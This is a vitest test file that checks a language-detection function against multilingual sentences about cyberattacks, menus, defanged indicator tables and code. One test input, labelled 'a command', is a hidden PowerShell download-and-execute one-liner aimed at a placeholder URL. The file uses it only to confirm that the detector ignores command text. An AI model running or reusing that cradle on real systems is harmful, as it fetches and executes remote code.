import { describe, expect, it } from "vitest";
import { detectLanguage } from "../../../src/text/language/detect-language.ts";

/** Short sentences; a text of several is one of the language as well. */
const SENTENCES: Readonly<Record<string, readonly string[]>> = {
  en: [
    "APT29 dumped LSASS with Mimikatz.",
    "The group used PowerShell to download a payload.",
    "Lazarus Group was seen in South Korea.",
    "Credentials were dumped by the actors.",
    "Attackers encrypted files and demanded a ransom.",
    "Persistence was achieved via a scheduled task.",
    "It steals cookies from browsers.",
    "Sandworm (also called Voodoo Bear) attacked Ukrenergo in Kyiv.",
    "The operators of Grünkohl wrote the loader in Rust.",
  ],
  de: [
    "Die Angreifer verschickten eine Datei an den Server.",
    "Die Gruppe nutzte Mimikatz, um Passwörter auszulesen.",
    "Das Opfer wurde per Mail mit einem Anhang angegriffen.",
    "Danach wurden die Daten verschlüsselt.",
  ],
  es: [
    "El grupo usó Mimikatz para robar las contraseñas.",
    "Los atacantes enviaron un documento malicioso.",
    "Después cifraron los archivos de la empresa.",
  ],
  fr: [
    "Le groupe a utilisé Mimikatz pour voler des mots de passe.",
    "Les attaquants ont envoyé un document piégé.",
    "Ensuite ils ont chiffré les fichiers de la société.",
  ],
  pt: [
    "Os atacantes enviaram um documento malicioso.",
    "Depois os arquivos foram cifrados pela quadrilha.",
    "O grupo não usou as senhas dos usuários.",
  ],
  it: [
    "Il gruppo ha usato Mimikatz per rubare le password.",
    "Gli aggressori hanno inviato un documento dannoso.",
    "Poi i file della società sono stati cifrati.",
  ],
  ru: [
    "Группа использовала Mimikatz для кражи паролей.",
    "Злоумышленники отправили вредоносный документ.",
    "В 2021 году атакующие зашифровали файлы компании.",
  ],
  uk: ["Зловмисники надіслали шкідливий документ і викрали паролі."],
  bg: ["Нападателите изпратиха зловреден документ, въпреки че съобщението бе върнато."],
  zh: [
    "APT29使用Mimikatz转储LSASS内存。",
    "2021年3月,攻击者通过鱼叉式钓鱼邮件投放恶意文档,随后在内网横向移动并窃取凭据和敏感数据。",
    "攻擊者利用釣魚郵件投放惡意文件。",
  ],
  ja: [
    "攻撃者はMimikatzを使ってパスワードを盗んだ。",
    "2021年に標的型メールが送信されました。",
    "ランサムウェアによりファイルが暗号化された。",
  ],
  ko: [
    "공격자는 Mimikatz를 사용하여 비밀번호를 훔쳤다.",
    "2021년 악성 문서가 첨부된 메일이 발송되었다.",
  ],
  ar: [
    "استخدمت المجموعة أداة Mimikatz لسرقة كلمات المرور.",
    "أرسل المهاجمون مستندا ضارا إلى الضحايا.",
  ],
  fa: ["مهاجمان یک سند مخرب برای قربانیان ارسال کردند."],
  hi: ["हमलावरों ने पासवर्ड चुराने के लिए Mimikatz का उपयोग किया।", "समूह ने एक दुर्भावनापूर्ण दस्तावेज़ भेजा।"],
  he: ["התוקפים שלחו מסמך זדוני אל הקורבנות."],
  el: ["Οι δράστες έστειλαν ένα κακόβουλο έγγραφο."],
};

/** Languages of Latin script without a list of function words need some twenty words. */
const BY_LETTERS: Readonly<Record<string, string>> = {
  da: "Angriberne sendte målrettede phishingmails med et ondsindet dokument, som kørte et PowerShell-script og hentede endnu et program fra et hacket websted. Derefter bevægede de sig gennem netværket med stjålne adgangskoder og krypterede filerne på serverne.",
  ro: "Atacatorii au trimis mesaje de phishing țintit cu un document malițios, care a rulat un script PowerShell și a descărcat un al doilea program de pe un site compromis. Apoi s-au deplasat în rețea cu parole furate și au criptat fișierele de pe servere.",
  fi: "Hyökkääjät lähettivät kohdennettuja kalasteluviestejä, joiden liitteenä oli haitallinen asiakirja, joka suoritti komentosarjan ja latasi toisen haittaohjelman murretulta verkkosivustolta. Sen jälkeen he liikkuivat verkossa varastetuilla tunnuksilla ja salasivat palvelinten tiedostot.",
  sv: "Angriparna skickade riktade nätfiskemejl med ett skadligt dokument, som körde ett PowerShell-skript och hämtade ytterligare ett program från en hackad webbplats. Därefter rörde de sig genom nätverket med stulna lösenord och krypterade filerna på servrarna.",
  no: "Angriperne sendte målrettede phishing-meldinger med et ondsinnet dokument, som kjørte et PowerShell-skript og hentet enda et program fra et hacket nettsted. Deretter beveget de seg gjennom nettverket med stjålne passord og krypterte filene på serverne.",
  pl: "Napastnicy wysłali ukierunkowane wiadomości phishingowe ze złośliwym dokumentem, który uruchomił skrypt PowerShell i pobrał drugi program z przejętej strony. Następnie przemieszczali się w sieci za pomocą skradzionych haseł i zaszyfrowali pliki na serwerach.",
  cs: "Útočníci rozeslali cílené phishingové zprávy se škodlivým dokumentem, který spustil skript PowerShell a stáhl další program z napadeného webu. Poté se pohybovali v síti s odcizenými hesly a zašifrovali soubory, které byly na serverech.",
  hr: "Napadači su poslali ciljane phishing poruke sa zlonamjernim dokumentom koji je pokrenuo PowerShell skriptu i preuzeo drugi program s kompromitirane stranice. Zatim su se kretali kroz mrežu pomoću ukradenih lozinki i šifrirali datoteke na poslužiteljima, što je zaustavilo više službi.",
  hu: "A támadók célzott adathalász leveleket küldtek egy rosszindulatú dokumentummal, amely elindított egy PowerShell-szkriptet, és letöltött egy második programot egy feltört webhelyről. Ezután lopott jelszavakkal mozogtak a hálózatban, és titkosították a kiszolgálókon lévő fájlokat.",
  tr: "Saldırganlar, bir PowerShell betiği çalıştıran ve ele geçirilmiş bir siteden ikinci bir program indiren kötü amaçlı bir belge içeren hedefli oltalama iletileri gönderdi. Daha sonra çalınan parolalar ile ağ içinde ilerlediler ve sunuculardaki dosyaları şifrelediler.",
  vi: "Những kẻ tấn công đã gửi thư lừa đảo có đính kèm tài liệu độc hại, tài liệu này chạy một tập lệnh PowerShell và tải xuống tải trọng thứ hai từ một trang web bị xâm nhập. Sau đó chúng di chuyển trong mạng bằng mật khẩu bị đánh cắp.",
};

/** What shows no language, or not enough of one. */
const NO_LANGUAGE: Readonly<Record<string, string>> = {
  "a row of a menu": "Home Products Solutions Pricing Blog Resources Support Login",
  "a long menu":
    "Home Products Solutions Pricing Blog Resources Support Careers Login Sign Up Free Trial Partners Newsroom Events Webinars Documentation Community Threat Intelligence Managed Detection Response Incident Response Penetration Testing Red Team Services Cloud Security Endpoint Protection",
  "names of groups":
    "Lazarus Group Kimsuky Andariel Bluenoroff Turla Sandworm Gamaredon Fancy Bear Cozy Bear Charming Kitten Muddy Water Oil Rig Ocean Lotus Mustang Panda Volt Typhoon Salt Typhoon",
  "names with letters of their own":
    "Müller GmbH, Société Générale, Škoda Auto, Nestlé, Citroën, Novo Nordisk, Ørsted",
  "a table of values":
    "Type\tValue\nSHA256\td41d8cd98f00b204e9800998ecf8427ed41d8cd98f00b204e9800998ecf8427e\nDomain\tevil[.]example\nIPv4\t198[.]51[.]100[.]7\nMutex\tGlobal\\abc\nFile\tloader.dll\nURL\thxxp://evil[.]example/de/die/der",
  "a table of ids":
    "T1059.001 PowerShell\nT1566.001 Spearphishing Attachment\nT1003 OS Credential Dumping\n".repeat(
      5,
    ),
  "a command":
    "powershell -nop -w hidden -c IEX((New-Object Net.WebClient).DownloadString('http://a/b'))",
  cmdlets:
    "Get-WmiObject Select-Object ForEach-Object Where-Object Write-Host Invoke-Expression New-Object System Net WebClient DownloadString Start-Process WindowStyle Hidden",
  "three words": "Die Angreifer verschwanden",
  "a name in its own script":
    "Turla Sandworm Lazarus Kimsuky Gamaredon 海莲花 MuddyWater OilRig Charming Kitten Andariel",
};

const REFERENCES = `References
1. FireEye, "APT28: A Window into Russia's Cyber Espionage Operations?", October 2014.
2. Kaspersky Lab, "Equation Group: Questions and Answers", 2015. https://securelist.example/equation
3. Bundesamt für Sicherheit in der Informationstechnik, "Die Lage der IT-Sicherheit", 2021.
4. MITRE ATT&CK, "OS Credential Dumping: LSASS Memory", accessed 3 May 2023.
5. T. Schmidt, "Inside the Loader of a Banker", Virus Bulletin, 2019.
6. Symantec, "Dragonfly: Western energy sector targeted by sophisticated attack group", 2017.
7. ESET, "Industroyer: A New Threat for Industrial Control Systems", June 2017.`;

const PYTHON = `import os
def run(path):
    # reads the file and returns what is in it
    with open(path) as handle:
        for line in handle:
            if line is not None and line in os.environ:
                print(line)
`;

describe("the language of a text", () => {
  const all = Object.entries(SENTENCES).flatMap(([language, sentences]) =>
    sentences.map((sentence) => [language, sentence] as const),
  );
  it.each(all)("is told by one sentence: %s, %j", async (language, sentence) => {
    expect(detectLanguage(sentence)).toBe(language);
  });

  it.each(Object.entries(SENTENCES))("is told by several: %s", async (language, sentences) => {
    const text = sentences.join(" ");
    expect(detectLanguage(text)).toBe(language);
    expect(detectLanguage(`${text}\n`.repeat(200))).toBe(language);
  });

  it.each(Object.entries(BY_LETTERS))("is told by letters: %s", async (language, text) => {
    expect(detectLanguage(text)).toBe(language);
  });

  it.each(Object.entries(NO_LANGUAGE))("is left open for %s", async (_, text) => {
    expect(detectLanguage(text)).toBeNull();
  });

  it("is English for references to works in English, and never German", async () => {
    expect(detectLanguage(REFERENCES)).toBe("en");
    expect(detectLanguage(REFERENCES.repeat(30))).toBe("en");
  });

  it("is no other than English for code", async () => {
    expect(["en", null]).toContain(detectLanguage(PYTHON.repeat(10)));
  });

  it("is that of the prose among tables and menus", async () => {
    const menu = NO_LANGUAGE["a long menu"] ?? "";
    const table = (NO_LANGUAGE["a table of values"] ?? "").repeat(10);
    const prose = (SENTENCES["de"] ?? []).join(" ").repeat(10);
    expect(detectLanguage(`${menu}\n${prose}\n${table}`)).toBe("de");
  });
});
